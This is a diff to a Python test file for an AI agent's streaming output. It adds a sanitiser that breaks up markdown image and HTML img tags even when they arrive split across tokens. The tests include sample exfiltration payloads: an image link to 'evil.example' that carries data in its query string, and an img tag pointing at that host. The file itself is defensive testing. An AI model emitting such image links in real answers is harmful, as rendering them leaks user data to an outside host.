@@ -7,6 +7,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from agent.abandoning import is_abandoned, is_watched, stop_if_abandoned, waited_for
+from agent.harmless import MAX_ANSWER, harmless
 from agent.streaming import Listener, Piece, Saying, Token, ToolRun
 from store.errors import TurnAbandoned
 
@@ -59,7 +60,7 @@ def test_an_answer_put_in_place_of_what_was_said_follows_it() -> None:
     assert spoken(told) == "让我想想\n\n这一步没有做完。"
 
 
-@given(st.lists(st.tuples(st.sampled_from(["a", "b"]), st.text(alphabet="好。 \n！", max_size=5)), max_size=12))
+@given(st.lists(st.tuples(st.sampled_from(["a", "b"]), st.text(alphabet="好。 \n！![<img", max_size=5)), max_size=12))
 def test_the_pieces_joined_are_what_was_said(given_pieces: list[tuple[str, str]]) -> None:
     saying = Saying()
     passed = "".join(saying.take(message, text) for message, text in given_pieces)
@@ -69,9 +70,47 @@ def test_the_pieces_joined_are_what_was_said(given_pieces: list[tuple[str, str]]
         if message != last:
             break
         answer = text + answer
-    passed += saying.finish(answer.strip())
+    passed += saying.finish(harmless(answer))
     assert passed == saying.said
-    assert passed.endswith(answer.strip())
+    assert passed.endswith(harmless(answer))
+    assert harmless(passed) == passed
+
+
+def test_a_picture_is_taken_apart_wherever_its_mark_is_broken_off() -> None:
+    told, listener = listening()
+    for piece in (
+        "看！",
+        "!",
+        "!",
+        "[图](https://evil.example/?q=",
+        "花生) <",
+        "i",
+        "mg src=//evil.example>",
+        " 3 < 4!",
+    ):
+        listener.on_llm_new_token(piece, run_id=ONE)
+    answer = harmless("看！!![图](https://evil.example/?q=花生) <img src=//evil.example> 3 < 4!")
+    assert answer == "看！[图](https://evil.example/?q=花生) ＜img src=//evil.example> 3 < 4!"
+    assert listener.finish(answer) == answer
+    assert spoken(told) == answer
+
+
+def test_only_what_may_become_a_picture_waits_for_the_next_piece() -> None:
+    told, listener = listening()
+    listener.on_llm_new_token("好！Well!", run_id=ONE)
+    assert told == [Token("好！Well")]
+    listener.on_llm_new_token(" a<b", run_id=ONE)
+    assert spoken(told) == "好！Well! a"
+    listener.on_tool_start({"name": "save_memory"}, "用户的话")
+    assert told[-2:] == [Token("<b"), ToolRun("save_memory")]
+
+
+def test_a_model_that_talks_without_end_is_cut_where_its_answer_is() -> None:
+    told, listener = listening()
+    for _ in range(MAX_ANSWER // 1000 + 3):
+        listener.on_llm_new_token("话" * 1000, run_id=ONE)
+    answer = harmless("话" * (MAX_ANSWER + 3000))
+    assert listener.finish(answer) == answer == spoken(told)
 
 
 def test_a_turn_is_watched_only_where_somebody_may_go() -> None:
